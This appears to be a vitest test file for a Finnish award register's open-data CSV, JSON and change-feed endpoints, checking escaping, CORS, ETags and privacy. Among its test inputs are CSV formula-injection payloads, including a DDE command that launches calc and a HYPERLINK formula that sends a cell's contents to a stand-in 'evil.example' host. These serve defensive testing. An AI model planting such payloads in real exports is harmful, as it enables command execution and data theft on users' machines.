import { beforeEach, describe, expect, test } from 'vitest';
import { cellOf } from '../../../functions/csv';
import { dataPolicy } from '../../../functions/policy';
import { columns } from '../../../src/programme/opendata';
import { awardRow, codeOf, grant, term } from '../../support/awards';
import { origin } from '../../support/store';
import { appIn, freshWorld, type TestWorld } from '../../support/world';

let world: TestWorld;
beforeEach(async () => {
  world = await freshWorld();
});

const files = ['/api/register.csv', '/api/register.json', '/api/changes.json'];
const ask = async (path: string, headers: Record<string, string> = {}, method = 'GET') =>
  appIn(world).request(origin + path, { method, headers });

/** Reads CSV as RFC 4180 has it. */
function parse(text: string): string[][] {
  const rows: string[][] = [[]];
  for (const [, quoted, plain, end] of text.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n|$)/g)) {
    rows.at(-1)?.push(quoted?.replaceAll('""', '"') ?? plain ?? '');
    if (end === '\r\n') rows.push([]);
    if (end === '') break;
  }
  return rows.slice(0, -1);
}

describe('a cell of CSV', () => {
  test.each([
    '=1+1',
    '+1',
    '-1',
    '@SUM(A1)',
    '\t=1',
    '\r=1',
    '\n=1',
    ' =1',
    '\u00a0=1',
    '＝1',
    '＋1',
    '－1',
    '＠A',
    '=cmd|"/C calc"!A0',
    '\u200b=1',
    '\ttext',
    '\rtext',
    '"=1',
  ])('is no formula: %j', (text) => {
    const [[cell] = []] = parse(`${cellOf(text)}\r\n`);
    expect(cell).toBe(`'${text}`);
    expect(cellOf(text)).toMatch(/^"/);
  });

  test.each([
    ['a;=1', "a;'=1"],
    ['a; =1', "a;' =1"],
    ['a;"=1', 'a;\'"=1'],
    ['a,@SUM(A1)', "a,'@SUM(A1)"],
    ['a\n-1', "a\n'-1"],
    ['=1;=2', "'=1;'=2"],
    ['a;;+358', "a;;'+358"],
  ])('is no formula where a spreadsheet sees another cell begin: %j', (text, safe) => {
    expect(parse(`${cellOf(text)}\r\n`)[0]?.[0]).toBe(safe);
    for (const part of cellOf(text)
      .slice(1, -1)
      .split(/[;,\t\r\n]/))
      expect(part).not.toMatch(/^["\s]*[=+@-]/);
  });

  test.each([
    'Leipä & Pulla Oy',
    '1234567-1',
    'https://www.example.fi/?a=1',
    'a=b',
    'Åsa "Bagare", Ab',
    'rivi\nrivi',
    'a;b',
    '',
  ])('keeps its text: %j', (text) => {
    const [[cell] = []] = parse(`${cellOf(text)}\r\n`);
    expect(cell).toBe(text);
  });
});

test('the CSV has a head, a row for each award and a byte order mark', async () => {
  const evil = '=HYPERLINK("https://evil.example/?"&A1,"Avaa"), Oy';
  await grant(
    world,
    awardRow({ markName: evil, workplaces: 'Yksi\nKaksi' }),
    awardRow({ code: codeOf(1), organisation: 'Åbo "Exempel" Ab', municipality: 'other' }),
  );
  const answer = await ask('/api/register.csv');
  const bytes = new Uint8Array(await answer.arrayBuffer());
  expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  const [head, ...rows] = parse(new TextDecoder().decode(bytes));
  expect(head).toEqual([...columns]);
  expect(rows).toHaveLength(2);
  const row = Object.fromEntries(columns.map((column, at) => [column, rows[0]?.[at]]));
  expect(row).toEqual({
    code: '7KD-3VMX',
    state: 'valid',
    name: `'${evil}`,
    registered_name: 'Lakeuden Esimerkkileipomo Oy',
    business_id: '1234567-1',
    municipality_code: '743',
    municipality_fi: 'Seinäjoki',
    municipality_sv: 'Seinäjoki',
    workplaces: 'Yksi\nKaksi',
    industry: 'C',
    industry_classification: 'TOL 2025',
    website: 'https://www.example.fi/',
    granted: '2026-11-02',
    valid_until: '2028-11-02',
    grace_until: '',
    since: '',
    url: 'https://ovi.example.fi/t/7KD-3VMX/',
  });
  expect(rows[1]?.slice(2, 8)).toEqual([
    'Åbo "Exempel" Ab',
    'Åbo "Exempel" Ab',
    '1234567-1',
    'other',
    '',
    '',
  ]);
});

test('the JSON has the same fields, and the commitments', async () => {
  await grant(world, awardRow({ language: 'sv' }));
  const answer = (await (await ask('/api/register.json')).json()) as {
    licence: string;
    logos: Record<string, unknown>[];
  };
  expect(answer.licence).toBe('https://creativecommons.org/licenses/by/4.0/');
  expect(Object.keys(answer.logos[0] ?? {})).toEqual([...columns, 'language', 'commitments']);
});

test('the feed is JSON Feed 1.1, newest first, in three languages', async () => {
  await grant(
    world,
    awardRow({
      terms: [term('2026-11-02')],
      events: [{ kind: 'suspended', at: '2026-11-15T10:00:00.000Z' }],
    }),
    awardRow({ code: codeOf(1), organisation: 'Åbo Exempel Ab', terms: [term('2026-11-10')] }),
  );
  world.at('2026-11-20T10:00:00Z');
  const feed = async (lang: string) =>
    (await (await ask(`/api/changes.json${lang}`)).json()) as {
      version: string;
      language: string;
      items: Record<string, unknown>[];
    };
  const fi = await feed('');
  expect(fi).toMatchObject({
    version: 'https://jsonfeed.org/version/1.1',
    language: 'fi',
    feed_url: 'https://ovi.example.fi/api/changes.json',
  });
  expect(
    fi.items.map(({ date_published, tags, content_text }) => [date_published, tags, content_text]),
  ).toEqual([
    ['2026-11-15T10:00:00.000Z', ['suspended'], '15.11.2026: Käyttöoikeus keskeytettiin toistaiseksi'],
    ['2026-11-10T05:00:00.000Z', ['granted'], '10.11.2026: Logo myönnettiin, voimassa 10.11.2028 asti'],
    ['2026-11-02T05:00:00.000Z', ['granted'], '2.11.2026: Logo myönnettiin, voimassa 2.11.2028 asti'],
  ]);
  expect(new Set(fi.items.map(({ id }) => id)).size).toBe(3);
  expect((await feed('?lang=sv')).items[0]?.content_text).toBe(
    '15.11.2026: Användningsrätten drogs in tills vidare',
  );
  expect((await feed('?lang=en')).language).toBe('en');
  expect((await feed('?lang=xx')).language).toBe('fi');
});

describe.each(files)('%s', (path) => {
  test('is open to the scripts of every site, and no page is', async () => {
    for (const answer of [await ask(path), await ask(path, { origin: 'https://other.example' })]) {
      expect(answer.headers.get('access-control-allow-origin')).toBe('*');
      expect(answer.headers.get('access-control-allow-credentials')).toBeNull();
      expect(answer.headers.get('content-security-policy')).toBe(dataPolicy);
      expect(answer.headers.get('link')).toContain('rel="license"');
    }
    const preflight = await ask(
      path,
      {
        origin: 'https://other.example',
        'access-control-request-method': 'GET',
        'access-control-request-headers': 'if-none-match',
      },
      'OPTIONS',
    );
    expect([preflight.status, preflight.headers.get('access-control-allow-headers')]).toEqual([
      204,
      'If-None-Match',
    ]);
    for (const page of ['/rekisteri/', '/t/222-2222/', '/'])
      expect((await ask(page)).headers.get('access-control-allow-origin')).toBeNull();
  });

  test('is 304 for whoever has it', async () => {
    await grant(world, awardRow());
    const first = await ask(path);
    const tag = first.headers.get('etag') ?? '';
    expect(tag).toMatch(/^"[\w-]{20,}"$/);
    for (const known of [tag, `W/${tag}`, `"x", ${tag}`, '*']) {
      const answer = await ask(path, { 'if-none-match': known });
      expect([answer.status, answer.headers.get('etag'), await answer.text()]).toEqual([304, tag, '']);
    }
    expect((await ask(path, { 'if-none-match': '"x"' })).status).toBe(200);
    await grant(world, awardRow({ code: codeOf(3) }));
    expect((await ask(path, { 'if-none-match': tag })).status).toBe(200);
  });

  test('takes nothing in', async () => {
    for (const method of ['POST', 'PUT', 'DELETE'])
      expect((await ask(path, { origin, 'sec-fetch-site': 'same-origin' }, method)).status).toBe(405);
    const head = await ask(path, {}, 'HEAD');
    expect([head.status, await head.text()]).toEqual([200, '']);
  });
});

test('the open data holds no personal data', async () => {
  await grant(world, awardRow());
  for (const path of files)
    expect(await (await ask(path)).text()).not.toMatch(/henkilo@|Toimitusjohtaja|\+358|application of/);
});
